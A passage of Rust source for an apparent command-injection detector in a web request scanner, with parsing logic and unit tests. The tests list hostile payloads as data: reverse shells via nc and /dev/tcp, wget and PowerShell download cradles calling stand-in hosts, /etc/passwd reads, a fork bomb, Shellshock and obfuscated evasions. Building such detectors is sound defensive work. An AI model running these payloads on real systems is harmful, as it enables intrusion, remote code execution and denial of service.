        && (cmd.kind == Kind::Attack
            || match evidence(s, word.span.end, cmd) {
                Evidence::Word => shell && file_name_follows(s, word.span.end),
                _ => true,
            })
    {
        sink.report(&EVASION, i..word.span.end);
    }
}

/// The next argument after `end` is a file name: `test.txt`, not `lovers`.
fn file_name_follows(s: &[u8], end: usize) -> bool {
    let at = skip_blanks(s, end);
    let token = s[at..]
        .iter()
        .take_while(|&&c| is_word_byte(c) && c != b'+')
        .count();
    let token = &s[at..at + token];
    token.iter().rposition(|&c| c == b'.').is_some_and(|dot| {
        dot > 0
            && token[dot + 1..]
                .first()
                .is_some_and(u8::is_ascii_alphanumeric)
    })
}

/// `name=value` at the start of a value or after `&`/`?` (a form or query string inside a
/// value): the value is a new start. `a=cat&&$a /etc/passwd`: a command stored in a
/// variable that is then expanded.
fn assignment(s: &[u8], name: Range<usize>, sink: &mut Sink<'_>) {
    let at = name.end + 1;
    if !signed_header(s, &s[name.clone()], at) {
        command_at(s, skip_blanks(s, at), Context::Start, sink);
    }
    if let Some(word) = read_word(s, at)
        && command_of(&word).is_some()
        && matches!(
            s.get(word.span.end),
            None | Some(b';' | b'&' | b'|' | b'\n')
        )
    {
        let var = &s[name.clone()];
        // Bounded, so that a value of many assignments stays linear.
        let rest = &s[word.span.end..s.len().min(word.span.end + 512)];
        let used = memchr::memchr_iter(b'$', rest).any(|p| {
            let after = &rest[p + 1..];
            let after = after.strip_prefix(b"{").unwrap_or(after);
            after.starts_with(var)
                && !after
                    .get(var.len())
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
        });
        if used {
            sink.report(&SHELL_SYNTAX, name.start..word.span.end);
        }
    }
}

/// Whether the `{` at `at` may open a brace expansion: it starts a word, and its group
/// closes before any blank. A group that opens another, or runs past [`BRACE_GROUP_MAX`],
/// is assumed to: each `{` then reads at most up to the next, and a value stays linear.
fn brace_expansion(s: &[u8], at: usize) -> bool {
    if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
        return false;
    }
    let group = &s[at + 1..s.len().min(at + 1 + BRACE_GROUP_MAX)];
    match group
        .iter()
        .find(|&&b| matches!(b, b'{' | b'}' | b' ' | b'\t' | b'\n' | b'\r'))
    {
        Some(b'{' | b'}') => true,
        Some(_) => false,
        None => group.len() == BRACE_GROUP_MAX,
    }
}

/// How far [`brace_expansion`] looks for a group's end.
const BRACE_GROUP_MAX: usize = 256;

/// Whether the word at `at`, in the value of the parameter `param`, is the name of a signed
/// header: AWS's and Google's signed URLs list them, `;` between
/// (`X-Amz-SignedHeaders=content-type;host`), and two are commands' names too.
fn signed_header(s: &[u8], param: &[u8], at: usize) -> bool {
    param.ends_with(b"signedheaders")
        && [&b"host"[..], b"date"].iter().any(|name| {
            s[at.min(s.len())..].starts_with(name)
                && matches!(s.get(at + name.len()), None | Some(b';' | b'&'))
        })
}

/// Whether the `&` at `at` is followed by a word that names no command: after a blank, or,
/// when it is `glued` to the word before, right after it.
fn joins_words(s: &[u8], at: usize, glued: bool) -> bool {
    let next = at + 1;
    let blank = s.get(next).is_some_and(|&c| c == b' ' || c == b'\t');
    if blank == glued {
        return false;
    }
    let start = skip_blanks(s, next);
    s.get(start).is_some_and(u8::is_ascii_alphabetic)
        && read_word(s, start).is_some_and(|word| command_of(&word).is_none())
}

/// Whether `s` starts with a query string's next `name=`.
fn starts_parameter(s: &[u8]) -> bool {
    let name = s.iter().take(65).take_while(|&&b| is_ident_byte(b)).count();
    (1..=64).contains(&name) && s.get(name) == Some(&b'=')
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'[' | b']')
}

/// Bytes that may open a command context.
const OPENER_BYTES: &[u8] = b";|&\n\r`$<>{(";

/// [`OPENER_BYTES`], as a table.
static OPENERS: [bool; 256] = needle::byte_set(OPENER_BYTES);

/// [`OPENERS`] and `?`, which may start a `name=` (a query string inside the value).
static STOPS: [bool; 256] = {
    let mut t = OPENERS;
    t[b'?' as usize] = true;
    t
};

/// The features of the [`STOPS`]: a value with none of them holds no stop.
const STOP_FEATURES: Features = {
    let mut f = Features::of(b'?');
    let mut k = 0;
    while k < OPENER_BYTES.len() {
        f = f.union(Features::of(OPENER_BYTES[k]));
        k += 1;
    }
    f
};

/// The bytes of a value that is one plain word (`order_total`, `tkt_0000000001`,
/// `2024-06-01T12:34:56Z`, `priority-customer`): no blank, quote, separator, slash or
/// expansion, so no command line; only a cradle name or `-encodedcommand` can be there.
const PLAIN: Features = Features::LETTER
    .union(Features::DIGIT)
    .union(Features::UNDERSCORE)
    .union(Features::DASH)
    .union(Features::DOT)
    .union(Features::COLON);

fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
    let s = input.lower;
    if input.is_upload_name()
        && let Some((kind, span)) = upload::find(s)
    {
        let rule = match kind {
            upload::Upload::Restricted => &CONFIG_UPLOAD,
            upload::Upload::AppConfig => &APP_CONFIG_UPLOAD,
        };
        sink.report(rule, span);
    }
    // `+` is a blank in a query string: a value with one is not one word. An e-mail address
    // holds no blank, separator or expansion either (a property test checks it).
    let one_word =
        input.features.within(PLAIN) && !(input.features.any(Features::DASH) && s.contains(&b'+'));
    if one_word || input.is_email_address() {
        // A path segment may name a tool's page (`/docs/ansible-console`).
        if input.part != Part::Path && lexicon::lookup(s).is_some_and(|c| c.jargon) {
            sink.report(&ALONE, 0..s.len());
        }
        if let Some(span) = windows(input) {
            sink.report(&WINDOWS, span);
        }
        return;
    }
    scan_all(input, sink);
}

/// The whole scan.
fn scan_all(input: &Input<'_>, sink: &mut Sink<'_>) {
    let s = input.lower;
    if s.is_empty() {
        return;
    }
    // The start of the value (after blanks and an opening quote, which read_word drops).
    let first = skip_blanks(s, 0);
    if first < s.len() {
        command_at(s, first, Context::Start, sink);
    }
    let mut i = 0;
    // Where a `name=` may have started: the value's start, or after `&`/`?`.
    let mut ident_start = Some(0usize);
    // The name of the `name=value` whose value is being read.
    let mut param = 0..0;
    while i < s.len() {
        // Fast-forward over bytes that cannot change anything: while no `name=` can be
        // pending, everything but an opener or a `?`; while one can, its name's bytes.
        if ident_start.is_none() {
            if !input.features.any(STOP_FEATURES) {
                break;
            }
            match s[i..].iter().position(|&b| STOPS[usize::from(b)]) {
                Some(p) => i += p,
                None => break,
            }
        } else {
            i += s[i..].iter().take_while(|&&b| is_ident_byte(b)).count();
            if i >= s.len() {
                break;
            }
        }
        let b = s[i];
        if !OPENERS[b as usize] {
            match b {
                b'=' => {
                    if let Some(st) = ident_start
                        && st < i
                    {
                        param = st..i;
                        assignment(s, st..i, sink);
                    }
                    // `cmd=garb=adduse[r];$garb`: the value may itself be an assignment.
                    ident_start = Some(i + 1);
                }
                b'?' => ident_start = Some(i + 1),
                _ if !is_ident_byte(b) => ident_start = None,
                _ => {}
            }
            i += 1;
            continue;
        }
        ident_start = if b == b'&' { Some(i + 1) } else { None };
        let next = s.get(i + 1).copied();
        match b {
            b';' | b'|' | b'&' => {
                let mut k = i + 1;
                while k < s.len() && matches!(s[k], b'|' | b'&') && k < i + 2 {
                    k += 1;
                }
                let after = skip_blanks(s, k);
                let context = Context::Separator {
                    adjacent: after == k,
                };
                if !(b == b';' && signed_header(s, &s[param.clone()], after)) {
                    command_at(s, after, context, sink);
                }
                if b == b'&' {
                    param = 0..0;
                }
                ident_start = Some(after);
                i = after.max(k);
                continue;
            }
            b'\n' | b'\r' | b'(' => {
                command_at(s, skip_blanks(s, i + 1), Context::Soft, sink);
            }
            b'`' => {
                // A run of backticks is a Markdown fence or an empty substitution.
                let run = s[i..].iter().take_while(|&&c| c == b'`').count();
                if run == 1 {
                    command_at(s, skip_blanks(s, i + 1), Context::Backtick, sink);
                }
                i += run;
                continue;
            }
            b'$' if next == Some(b'(') => {
                let mut k = i + 2;
                if s.get(k) == Some(&b'(') {
                    k += 1;
                }
                command_at(s, skip_blanks(s, k), Context::Dollar, sink);
                i = k;
                continue;
            }
            b'<' | b'>' if next == Some(b'(') => {
                command_at(s, skip_blanks(s, i + 2), Context::Dollar, sink);
                i += 2;
                continue;
            }
            b'<' if s[i..].starts_with(b"<<<") => {
                command_at(s, skip_blanks(s, i + 3), Context::Soft, sink);
                i += 3;
                continue;
            }
            // Bash expands `{a,b}` into words when it opens a word and holds no blank:
            // `user{id,name}` (GraphQL) and `{date, medium}` (ICU) are no expansions.
            b'{' if brace_expansion(s, i) => {
                let lead_comma = next == Some(b',');
                let k = if lead_comma { i + 2 } else { i + 1 };
                command_at(s, k, Context::Brace { lead_comma }, sink);
            }
            _ => {}
        }
        i += 1;
    }
    shapes(input, sink);
    if input
        .features
        .any(Features::SIGIL | Features::DOLLAR | Features::BRACE | Features::SEPARATOR)
        && let Some(span) = edge::find(s)
    {
        sink.report(&EXPANSION, span);
    }
    if input.features.any(Features::NEWLINE)
        && let Some(span) = mail::find(input.text, s)
    {
        sink.report(&MAIL_PROTOCOL, span);
    }
}

static ALIAS_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"alias"));
static FOR_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"for"));
static IF_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"if"));

/// The words of Windows command lines that count wherever they are, for the shared trigger
/// words: PowerShell's download cradles and decoders, called as methods (`.DownloadString(`,
/// `.DownloadFile(`, `::FromBase64String(`), `Net.WebClient`, `%comspec%` and
/// `-encodedcommand`.
pub(super) const WINDOWS_WORDS: [&[u8]; 6] = [
    b"downloadstring",
    b"downloadfile",
    b"frombase64string",
    b"net.webclient",
    b"%comspec%",
    b"-encodedcommand",
];

/// The index of each word in [`WINDOWS_WORDS`] past the three method names.
#[derive(Clone, Copy)]
enum WindowsWord {
    WebClient = 3,
    Comspec = 4,
}

#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
static FORK_BOMB: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[\s;&|])([a-z0-9_:.]{1,32})\s*\(\)\s*\{[^}]{0,200}\}")
        .expect("constant regex")
});

#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
static ALIAS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[;&|`(=]\s*)alias\s+(?:-[a-z]+\s+|\+[a-z]+\+?\s+)*[^\s=;&|]+="#)
        .expect("constant regex")
});

#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
static FOR_LOOP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[;&|(\n]\s*|\s)for\s+(?:[^%\s]+\s+){0,4}%%?[^\s%]{0,24}\s+in\s*\("#)
        .expect("constant regex")
});

/// cmd's `if`: a test (`exist`, `defined`…) or a comparison. A `==` operand opening a
/// parenthesis closes it before the `==` (`if (%1)==(x)`): one that spans the comparison is a
/// C-like condition (`if (x == 1) then…`), which cmd would not write that way.
#[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
static IF_BATCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:^|[;&|(\n])\s*if(?:\s+|\s*/i\s+)(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S|(?:"[^"\n]{0,64}"|\([^\s=()]*\)|[^\s=(][^\s=]*)\s*==|(?:"[^"\n]{0,64}"|[^\s=]+)\s+(?:equ|neq|lss|leq|gtr|geq)\s)"#,
    )
    .expect("constant regex")
});

/// The earlier-ending of two spans (the order an automaton would report them in).
fn first_ending(a: Option<Range<usize>>, b: Option<Range<usize>>) -> Option<Range<usize>> {
    match (a, b) {
        (Some(a), Some(b)) => Some(if b.end < a.end { b } else { a }),
        (a, b) => a.or(b),
    }
}

/// Download cradles, `%comspec%`, `-encodedcommand`: the first to end, a cradle's call
/// before `Net.WebClient`.
fn windows(input: &Input<'_>) -> Option<Range<usize>> {
    let (mut call, mut webclient, mut comspec, mut encoded) = (None, None, None, None);
    for m in input.words(WordSet::Windows) {
        let first = match m.pattern().as_usize() {
            i if i == WindowsWord::WebClient as usize => &mut webclient,
            i if i == WindowsWord::Comspec as usize => &mut comspec,
            i if i > WindowsWord::Comspec as usize => &mut encoded,
            _ if input.lower.get(m.end()) == Some(&b'(') => &mut call,
            _ => continue,
        };
        first.get_or_insert(m.start()..m.end());
    }
    first_ending(first_ending(call.or(webclient), comspec), encoded)
}

/// The function defined before `at` is then run as a command: `f(){ …; }; f`.
fn invoked_after(s: &[u8], at: usize, name: &[u8]) -> bool {
    let next = skip_blanks(s, at);
    if !matches!(s.get(next), Some(b';' | b'&' | b'\n')) {
        return false;
    }
    let call = skip_blanks(s, next + 1);
    s[call..].starts_with(name)
        && s.get(call + name.len())
            .is_none_or(|&c| matches!(c, b' ' | b'\t' | b';' | b'&' | b'|' | b'\n'))
}

/// Whether `name=` opens the value or follows a separator or a blank: an assignment.
fn assigned(s: &[u8], name: &[u8]) -> bool {
    memchr::memchr_iter(b'=', s).any(|q| {
        q >= name.len()
            && s[..q].ends_with(name)
            && (q == name.len()
                || matches!(
                    s[q - name.len() - 1],
                    b';' | b'&' | b'|' | b'\n' | b' ' | b'\t'
                ))
    })
}

/// `c1=c;c2=a;c3=t;$c1$c2$c3 /etc/passwd`: a command spelled out in variables assigned in
/// the value, expanded three or more glued together.
fn glued_variables(s: &[u8]) -> Option<Range<usize>> {
    let (mut run_start, mut run_end, mut count) = (0, usize::MAX, 0);
    for p in memchr::memchr_iter(b'$', s) {
        let name = &s[p + 1..];
        let len = name
            .iter()
            .take(16)
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if len == 0 || name[0].is_ascii_digit() || !assigned(s, &name[..len]) {
            count = 0;
            continue;
        }
        if p == run_end && count > 0 {
            count += 1;
        } else {
            (run_start, count) = (p, 1);
        }
        run_end = p + 1 + len;
        if count >= 3 {
            return Some(run_start..run_end);
        }
    }
    None
}

/// Fixed shapes, each searched only when the value holds the bytes it needs.
fn shapes(input: &Input<'_>, sink: &mut Sink<'_>) {
    let (s, features) = (input.lower, input.features);
    // `${ifs`, `$ifs`, `/dev/tcp/`, `/dev/udp/`.
    let mut shell = None;
    if features.any(Features::DOLLAR) {
        shell = memchr::memchr_iter(b'$', s).find_map(|p| {
            let rest = &s[p..];
            if rest.starts_with(b"${ifs") {
                Some(p..p + 5)
            } else if rest.starts_with(b"$ifs") {
                Some(p..p + 4)
            } else {
                None
            }
        });
    }
    if features.any(Features::SLASH) {
        let dev = memchr::memchr_iter(b'/', s).find_map(|p| {
            let rest = &s[p..];
            (rest.starts_with(b"/dev/tcp/") || rest.starts_with(b"/dev/udp/")).then_some(p..p + 9)
        });
        shell = first_ending(shell, dev);
    }
    if features.any(Features::DOLLAR)
        && features.any(Features::SEPARATOR)
        && features.any(Features::EQUALS)
    {
        shell = first_ending(shell, glued_variables(s));
    }
    if let Some(span) = shell {
        sink.report(&SHELL_SYNTAX, span);
    }
    let empty_parens = || memchr::memchr_iter(b'(', s).filter(|&p| s.get(p + 1) == Some(&b')'));
    let parens = features.any(Features::PAREN) && empty_parens().next().is_some();
    if parens {
        // `() {` opening the value, or `() { :;` anywhere.
        for p in empty_parens() {
            let after = skip_blanks(s, p + 2);
            if s.get(after) == Some(&b'{') {
                let before_blank = s[..p].iter().all(|c| c.is_ascii_whitespace());
                let body = skip_blanks(s, after + 1);
                if before_blank || s.get(body) == Some(&b':') {
                    sink.report(&SHELLSHOCK, p..p + 2);
                    break;
                }
            }
        }
    }
    if let Some(span) = windows(input) {
        sink.report(&WINDOWS, span);
    }
    let alias = features.any(Features::EQUALS) && ALIAS_WORD.find(s).is_some();
    let for_loop = features.any(Features::ESCAPE)
        && features.any(Features::PAREN)
        && FOR_WORD.find(s).is_some();
    // `if` opens the value or follows a separator, a parenthesis or a line break (blanks,
    // Unicode ones included, between).
    let if_batch = (features.any(Features::SEPARATOR | Features::PAREN | Features::NEWLINE)
        || s.iter()
            .position(|&c| !(c.is_ascii_whitespace() || c == b'\x0b' || c >= 0x80))
            .is_some_and(|at| s[at..].starts_with(b"if")))
        && IF_WORD.find(s).is_some();
    let saw = u32::from(parens) << 4
        | u32::from(alias) << 11
        | u32::from(for_loop) << 12
        | u32::from(if_batch) << 13;
    if saw & (1 << 4) != 0 {
        for caps in FORK_BOMB.captures_iter(s) {
            if let (Some(all), Some(name)) = (caps.get(0), caps.get(1)) {
                let body = &s[name.end()..all.end()];
                // The body runs the function as a command (`f | f &`), not as a call `f(`.
                let runs_itself = needle::find_iter(body, name.as_bytes())
                    .any(|p| body.get(p + name.len()) != Some(&b'('))
                    || invoked_after(s, all.end(), name.as_bytes());
                if runs_itself && body.iter().any(|&c| c == b'|' || c == b'&') {
                    sink.report(&SHELL_SYNTAX, all.range());
                }
            }
        }
    }
    if saw & (1 << 11) != 0
        && let Some(m) = ALIAS.find(s)
    {
        sink.report(&SHELL_SYNTAX, m.range());
    }
    if saw & (1 << 12) != 0
        && let Some(m) = FOR_LOOP.find(s)
    {
        sink.report(&WINDOWS, m.range());
    }
    if saw & (1 << 13) != 0
        && let Some(m) = IF_BATCH.find(s)
    {
        sink.report(&WINDOWS, m.range());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::{matches, with_input};
    use crate::location::Part;
    use crate::shape::is_email_address;
    use proptest::prelude::*;

    /// Words for e-mail addresses: every piece of a string literal in this class's sources
    /// (command names, their flags, Windows words…).
    static MAIL_WORDS: LazyLock<Vec<String>> = LazyLock::new(|| {
        let sources = [
            include_str!("lexicon.rs"),
            include_str!("mod.rs"),
            include_str!("edge.rs"),
        ];
        crate::detector::tests::literal_pieces(
            &sources,
            |c| c.is_ascii_alphanumeric() || c == '_',
            20,
        )
    });

    /// What the whole scan reports on `text` at `part`.
    fn all_of(part: Part, text: &str) -> Vec<&'static str> {
        with_input(part, "email", text.as_bytes(), 4, |input| {
            let mut found = Vec::new();
            scan_all(input, &mut Sink::new(&mut found, 4));
            found.into_iter().map(|m| m.rule.id).collect()
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2048))]
        /// An e-mail address raises what the whole scan would (a Windows word at most).
        #[test]
        fn an_email_address_is_one_word(
            local in proptest::collection::vec(
                (proptest::sample::select(&MAIL_WORDS[..]), proptest::sample::select(&[".", "+", "-", "_"][..])),
                1..4,
            ),
            domain in proptest::collection::vec(proptest::sample::select(&MAIL_WORDS[..]), 2..4),
        ) {
            let local: String = local.iter().map(|(w, sep)| format!("{sep}{w}")).collect();
            let mail = format!("{local}@{}", domain.join(".").replace('_', "-"));
            prop_assert!(is_email_address(mail.to_ascii_lowercase().as_bytes()), "{}", mail);
            for part in [Part::Body, Part::Path, Part::Query, Part::Header] {
                prop_assert_eq!(matches(&DETECTOR, part, "email", &mail, 4), all_of(part, &mail));
            }
        }
    }

    fn hits(text: &str) -> Vec<&'static str> {
        matches(&DETECTOR, Part::Query, "q", text, 1)
    }

    fn hits2(text: &str) -> Vec<&'static str> {
        matches(&DETECTOR, Part::Query, "q", text, 2)
    }

    #[test]
    fn separators() {
        for attack in [
            ";id",
            "127.0.0.1; cat /etc/passwd",
            "x|whoami",
            "a && wget http://evil.example/x.sh",
            "www.google.com;cat+/etc/passwd",
            "foo\nuname -a",
            "x; nc -e /bin/sh 10.0.0.1 4444",
            ";ps",
            "ok | sh",
        ] {
            assert!(hits(attack).contains(&"command.separator"), "{attack}");
        }
    }

    #[test]
    fn substitutions() {
        for attack in [
            "$(whoami)",
            "`uname -a`",
            "x`cat /etc/passwd`",
            "<(curl http://x.example/a)",
            "{cat,/etc/passwd}",
            "{,ifconfig,eth0}",
        ] {
            assert!(hits(attack).contains(&"command.substitution"), "{attack}");
        }
        assert_eq!(hits("$(document)"), ["command.substitution-weak"]);
    }

    #[test]
    fn starts() {
        for attack in [
            "cat /etc/passwd",
            "whoami;",
            "wget http://evil.example/x",
            "/usr/bin/perl -e 'print 1'",
            "bash -c 'id'",
            "nc -lvp 4444",
            "ls -la /var/www/",
        ] {
            assert!(hits(attack).contains(&"command.start"), "{attack}");
        }
    }

    #[test]
    fn evasions() {
        for attack in [
            "w'h'o'am'i",
            "wh\\oami",
            "c$@at /etc/passwd",
            "/???/c?t /???/p??s??",
            "'i'fconfig",
            "cu$u\\rl example.com",
            "c^m^d /c dir",
            "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\".\"\"1\"\"0\"\"",
            "$SHELL -c \"echo hi\"",
        ] {
            assert!(hits(attack).contains(&"command.evasion"), "{attack}");
        }
    }

    #[test]
    fn shapes_and_windows() {
        assert!(hits("() { :; }; /bin/bash -c id").contains(&"command.shellshock"));
        assert!(hits("cat${IFS}/etc/passwd").contains(&"command.shell-syntax"));
        assert!(hits("sh -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"command.shell-syntax"));
        assert!(hits(":(){ :|:& };:").contains(&"command.shell-syntax"));
        assert!(hits("alias a=curl&a example.com").contains(&"command.shell-syntax"));
        assert!(hits("for /f %i in ('whoami') do echo %i").contains(&"command.windows"));
        assert!(hits("IF EXIST C:\\pagefile.sys CMD").contains(&"command.windows"));
        assert!(hits("if \"%VAR%\" == \"x\" echo ok").contains(&"command.windows"));
        assert!(hits("%COMSPEC% /c dir").contains(&"command.windows"));
        assert!(hits("cmd /c dir").contains(&"command.start"));
        assert!(hits("time ifconfig").contains(&"command.separator"));
        assert!(hits("nohup who\n").contains(&"command.separator"));
        assert!(hits("if \"A A\" == \"A A\" echo same").contains(&"command.windows"));
        assert!(hits("if (AA) == (AA) echo same").contains(&"command.windows"));
        assert!(hits("if not (2 equ 2) echo hey").contains(&"command.windows"));
        for prose in ["if (x == 1) then show the banner", "if (x == null) return;"] {
            assert!(hits(prose).is_empty(), "{prose}");
        }
        assert!(hits("test() { test | test & } test").contains(&"command.shell-syntax"));
        assert!(hits("function f() { f() || g }").is_empty());
        assert!(hits("f(){ f() | f(); }; f").contains(&"command.shell-syntax"));
        assert!(hits("f(){ f() & f(); }; f").contains(&"command.shell-syntax"));
        assert!(hits("function f() { f() || g }; f(1)").is_empty());
        assert!(hits("view=image.jpg&bcdboot/r file.txt").contains(&"command.separator"));
        assert!(hits("tasklist/v").contains(&"command.start"));
        assert!(hits("cd /;cd etc;bridge -b passwd").contains(&"command.separator"));
        assert!(hits(";rmt-dump").contains(&"command.separator"));
        for benign in ["and/or", "w/o", "tcp/ip", "n/a", "km/h", "I/O"] {
            assert!(hits(benign).is_empty(), "{benign}");
        }
        for tool in [
            "ansible-playbook site.yml",
            "ansible-galaxy collection install community.general",
            "pip3 install something",
            "python3.10 cmd",
            "cd /;cd etc;column passwd",
            ";trap 'rm -rf file.txt' SIGEXIT",
            "&aptitude",
        ] {
            assert!(!hits(tool).is_empty(), "{tool}");
        }
    }

    #[test]
    fn plain_words_take_the_short_way() {
        for value in [
            "order_total",
            "2024-06-01T12:34:56Z",
            "priority-customer",
            "whoami",
            "ifconfig",
            ".shell",
            "python3.10:x",
            "ansible-playbook",
            "downloadstring",
            "x.downloadfile",
            "net.webclient",
            "frombase64string",
            "-encodedcommand",
            "ls-la",
            "a:b:c",
        ] {
            let mut lower = Vec::new();
            let features = Features::lowercase(value.as_bytes(), &mut lower);
            assert!(features.within(PLAIN), "{value}");
            let input = Input {
                raw: value.as_bytes(),
                text: value.as_bytes(),
                lower: &lower,
                features,
                decoded_by: crate::decode::Decoders::default(),
                part: Part::Query,
                name: "q",
                paranoia: 4,
                words: &[],
            };
            let (mut quick, mut all) = (Vec::new(), Vec::new());
            scan(&input, &mut Sink::new(&mut quick, 4));
            scan_all(&input, &mut Sink::new(&mut all, 4));
            let ids = |v: Vec<crate::detector::Match>| {
                v.into_iter().map(|m| m.rule.id).collect::<Vec<_>>()
            };
            assert_eq!(ids(quick), ids(all), "{value}");
        }
        assert_eq!(hits("net.webclient"), ["command.windows"]);
        for cradle in [
            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
            "$c.DownloadFile('http://x.example/a','a.exe')",
            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))",
        ] {
            assert!(hits(cradle).contains(&"command.windows"), "{cradle}");
        }
        // The method's name alone is not a call.
        assert!(hits("downloadstring").is_empty());
        assert_eq!(hits("-EncodedCommand"), ["command.windows"]);
    }

    #[test]
    fn admin_tools_alone_or_with_plain_arguments() {
        for attack in [
            "visudo",
            "ansible-console",
            "chef-shell",
            "'visudo'",
            "\"chef-shell\"",
            "code=ansible-console",
        ] {
            assert_eq!(hits(attack), ["command.alone"], "{attack}");
        }
        for attack in [
            "cscli alerts list",
            "'cscli' alerts list",
            "\"cscli alerts list\"",
            "pipx install something",
        ] {
            assert!(hits(attack).contains(&"command.start"), "{attack}");
        }
        // Not as a path segment (a tool's documentation page), not under a directory, not
        // the names of languages, products or actions.
        assert!(matches(&DETECTOR, Part::Path, "", "ansible-console", 1).is_empty());
        for benign in [
            "/docs/ansible-console",
            "ansible",
            "python3",
            "whoami",
            "shutdown",
            "chef",
            "cscli alerts list for the new team, see the notes below",
            "visudo.html",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn system_bin_directories() {
        for attack in ["/bin/ab", "bin/chef", "/usr/local/sbin/foo"] {
            assert_eq!(hits(attack), ["command.start"], "{attack}");
        }
        // Other directories ending in `bin` hold no programs for certain.
        assert!(hits("cabin/chalet").is_empty());
        assert!(hits2("/home/cabin/photos").is_empty());
        assert_eq!(hits2("/system/xbin/foo"), ["command.start-weak"]);
        assert!(hits("node_modules/.bin/eslint").is_empty());
        assert_eq!(hits2("node_modules/.bin/eslint"), ["command.start-weak"]);
    }

    #[test]
    fn wrappers_with_flags() {
        for attack in [
            "flock -u / whoami",
            "sudo -u root whoami",
            "timeout 5 wget http://x.example/a",
            "stdbuf -o0 nc -e /bin/sh 10.0.0.1 4444",
        ] {
            assert!(hits(attack).contains(&"command.separator"), "{attack}");
        }
        for benign in [
            "time to sort",
            "time - the movie, 2 tickets",
            "nice -- a word",
            "timeout 5 seconds",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn underscore_parameter_inside_a_name() {
        for attack in [
            "www.google.com;c$_at+/et$_c/pas$_swd",
            "x=foo;c$_at /etc/passwd",
        ] {
            assert!(hits(attack).contains(&"command.evasion"), "{attack}");
        }
        for benign in ["read $_GET['x'] in PHP", "price$_total", "a$_b"] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn config_uploads() {
        let upload = |part, name, value, paranoia| matches(&DETECTOR, part, name, value, paranoia);
        assert_eq!(
            upload(Part::FileName, "", ".htaccess", 1),
            ["command.config-upload"]
        );
        assert_eq!(
            upload(Part::Header, "x-filename", "mtrr", 1),
            ["command.config-upload"]
        );
        assert!(upload(Part::Header, "x-filename", "config.yml ", 1).is_empty());
        assert_eq!(
            upload(Part::FileName, "", "config.yml", 2),
            ["command.app-config-upload"]
        );
        // Only as the name of an upload.
        assert!(upload(Part::Query, "file", ".htaccess", 4).is_empty());
        assert!(upload(Part::Header, "x-other", "mtrr", 4).is_empty());
        assert!(upload(Part::FileName, "", "settings.json", 4).is_empty());
    }

    #[test]
    fn empty_variable_before_a_command() {
        assert!(hits(";$a cat test.txt").contains(&"command.evasion"));
        assert!(hits("$a whoami").contains(&"command.evasion"));
        assert!(hits("x|$u sort data.csv").contains(&"command.evasion"));
        for benign in [
            "$a cat lovers",
            "price: $a cat food",
            "x; $total sort order",
            "$a cat file.txt",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn variables_glued_into_a_command() {
        let chain = "c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;$c1$c2$c3$c4$a1$a2$a3$a4";
        assert!(hits(chain).contains(&"command.shell-syntax"), "{chain}");
        for benign in [
            "a=1; b=2; total is $a$b",
            "$x$y$z; w=1",
            "x=1;y=2;z=3; see $x, $y and $z",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn windows_at_schedule() {
        for attack in [";at 2:00 \"echo test\"", "x & at 13:45 'whoami'"] {
            assert!(hits(attack).contains(&"command.windows"), "{attack}");
        }
        for benign in [
            "at 2:00 \"echo test\"",
            "lunch; at 7:30 \"Hamlet\" at the Globe",
            "Go to store.\nAt 2:00 \"echo\" the band plays",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn nested_assignment() {
        assert!(hits("cmd=garb=adduse[r];$garb pizza\n").contains(&"command.shell-syntax"));
        for benign in ["a=b=c", "token=YWJj==", "x=y=z;w"] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
    }

    #[test]
    fn query_strings_in_a_value() {
        // A command's name as a parameter's value: its `&` is the query string's.
        for benign in [
            "https://example.com/?tool=dpkg&x=1",
            "q=whoami&page=2",
            "whoami&x=1",
        ] {
            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
        }
        assert!(hits2("utm_source=service&utm_medium=cpc").is_empty());
        // The shell's `&`s stay operators: at the end, doubled, or before a command.
        assert!(hits("whoami&").contains(&"command.start"));
        assert!(hits("whoami&&id").contains(&"command.separator"));
        assert!(hits("x=1&whoami&y=2").contains(&"command.separator"));
        assert!(hits("q=1&cat /etc/passwd&x=1").contains(&"command.separator"));
    }

    #[test]
    fn a_setting_is_not_a_command_line() {
        assert!(hits("host = example.com\nport = 443").is_empty());
        // The lookup itself is one.
        assert!(hits("host example.com").contains(&"command.start"));
    }

    #[test]
